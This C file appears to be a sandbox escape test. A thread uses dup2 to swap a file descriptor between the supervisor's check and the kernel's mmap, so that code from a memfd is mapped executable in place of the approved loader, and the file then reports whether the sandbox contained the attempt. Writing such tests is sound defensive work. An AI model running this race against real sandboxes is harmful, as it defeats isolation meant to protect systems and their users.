// A thread exchanges the descriptor by dup2 between the supervisor's look at it and the kernel's.
#include "escape.h"
static int lib, mem, fd;
static void *swapper(void *arg)
{
	for (;;)
		dup2(mem, fd), dup2(lib, fd);
	return NULL;
}
int main(void)
{
	lib = NEED(open("/lib64/ld-linux-x86-64.so.2", O_RDONLY)), mem = memfd(0), fd = NEED(dup(lib));
	put42(mem);
	racer(swapper, NULL);
	for (int i = 0; i < rounds(); i++) {
		void *p = mmap(NULL, PAGE, RX, MAP_PRIVATE, fd, 0);
		if (p == MAP_FAILED)
			continue;
		if (memcmp(p, code42, sizeof code42) == 0)
			run42(p);
		munmap(p, PAGE);
	}
	errno = EAGAIN, contained("every round");
}
